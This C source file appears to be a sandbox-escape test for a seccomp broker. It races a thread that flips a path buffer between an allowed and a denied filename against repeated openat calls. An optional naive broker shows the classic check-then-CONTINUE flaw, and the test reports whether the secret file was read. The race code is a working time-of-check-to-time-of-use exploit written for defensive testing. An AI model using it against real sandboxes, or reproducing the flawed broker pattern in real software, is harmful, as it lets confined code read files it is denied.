/* Attack: time of check to time of use on the path buffer. A second thread
 * rewrites the buffer between an allowed name and a denied one (same
 * length) while the first opens it in a loop (20000 opens or 5 s) and reads
 * what it got. Any read of the secret is an escape.
 *
 * Stops it: the supervisor reads the path once, and the gofer opens what it
 * decided on; the guest gets that fd (ADDFD), never a CONTINUE that would
 * let the kernel re-read the buffer.
 * Natively: nothing is denied, so it reads the secret at once (ESCAPED).
 * With --naive-broker it first installs its own seccomp listener answering
 * like a broker that checks the string and then lets the call CONTINUE
 * (what ferry must never do): the race wins within the bound (ESCAPED),
 * which shows the attack is real, not only that nothing is denied natively.
 *
 * Usage: toctou TOKEN ALLOWED DENIED [--naive-broker]
 */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <time.h>

#include "escape.h"

#define ITERATIONS 20000
#define SECONDS 5

static char path_buf[256];
static const char *names[2];
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	size_t len = strlen(names[0]);
	for (unsigned long i = 0; !stop; i++) {
		const char *src = names[i & 1];
		for (size_t k = 0; k < len; k++)
			((volatile char *)path_buf)[k] = src[k];
		/* Hold each whole name a moment: a reader then often sees one
		 * name at the check and the other at the use, even on a loaded
		 * machine. */
		for (volatile int spin = 0; spin < 2000; spin++)
			;
	}
	return NULL;
}

/* The naive broker: deny when the string names the denied file, else let
 * the kernel run the call (reading the buffer again). */
static int listener = -1;

static void *naive_broker(void *arg)
{
	(void)arg;
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;
	for (;;) {
		memset(&req, 0, sizeof(req));
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
			if (errno == EINTR || errno == ENOENT)
				continue;
			return NULL;
		}
		const char *p = (const char *)(uintptr_t)req.data.args[1];
		char copy[256];
		snprintf(copy, sizeof(copy), "%s", p); /* same address space */
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		if (strstr(copy, names[1])) {
			resp.error = -EACCES;
		} else {
			resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		}
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

static void install_naive_broker(void)
{
	/* Trap openat only; this thread and the others keep every other call. */
	struct sock_fprog prog = openat_notify_filter();
	listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
	                        SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	if (listener < 0)
		setup_failed("naive broker: seccomp: %s", strerror(errno));
	pthread_t t;
	if (pthread_create(&t, NULL, naive_broker, NULL) != 0)
		setup_failed("pthread_create");
}

int main(int argc, char **argv)
{
	escape_init(argc, argv, "toctou", 2, "ALLOWED DENIED [--naive-broker]");
	names[0] = argv[2];
	names[1] = argv[3];
	if (strlen(names[0]) != strlen(names[1]) || strlen(names[0]) >= sizeof(path_buf))
		setup_failed("the names must have the same length");
	bool naive = argc > 4 && strcmp(argv[4], "--naive-broker") == 0;
	if (naive) {
		escape_attack = "toctou(naive CONTINUE broker)";
		install_naive_broker();
	}
	memcpy(path_buf, names[0], strlen(names[0]) + 1);
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		setup_failed("pthread_create");
	time_t end = time(NULL) + SECONDS;
	long opened = 0, failed = 0, i;
	for (i = 0; i < ITERATIONS && time(NULL) < end; i++) {
		int fd = (int)syscall(SYS_openat, AT_FDCWD, path_buf, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			failed++;
			continue;
		}
		opened++;
		char shown[256];
		bool hit = fd_has_token(fd, shown, sizeof(shown));
		close(fd);
		if (hit) {
			stop = 1;
			escaped("open %ld of %ld read \"%s\"", opened, i + 1, shown);
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	escape_note("%ld tries: %ld opened the allowed file, %ld failed", i, opened, failed);
	contained();
}
